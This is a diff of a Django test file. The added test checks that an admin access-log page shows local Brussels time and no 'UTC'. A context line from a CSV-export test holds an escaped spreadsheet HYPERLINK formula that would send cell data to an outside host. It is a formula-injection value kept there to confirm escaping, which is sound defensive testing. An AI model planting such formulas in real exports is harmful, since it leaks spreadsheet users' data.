@@ -81,3 +81,24 @@ def test_the_csv_export_writes_no_formula(client):
     assert row["username"] == '\'=HYPERLINK("http://example.org/?"&A1,"open")'
     assert row["target"] == "'-2+3"
     assert row["action"] == "station_open"
+
+
+def test_the_admin_list_shows_local_times_and_says_nothing_of_utc(client, settings):
+    import datetime as dt
+
+    settings.TIME_ZONE = "Europe/Brussels"
+    AccessLog.objects.create(
+        at=dt.datetime(2026, 7, 1, 6, 30, tzinfo=dt.UTC),  # 08:30 in Brussels
+        username="anne",
+        action=AccessLog.Action.CENSUS,
+        outcome=AccessLog.Outcome.ALLOWED,
+    )
+    it = person("ivan", "it")
+    it.is_staff = it.is_superuser = True
+    it.save()
+    client.force_login(it)
+
+    page = client.get(reverse("admin:accounts_accesslog_changelist")).content.decode()
+
+    assert "UTC" not in page
+    assert "8:30 a.m." in page
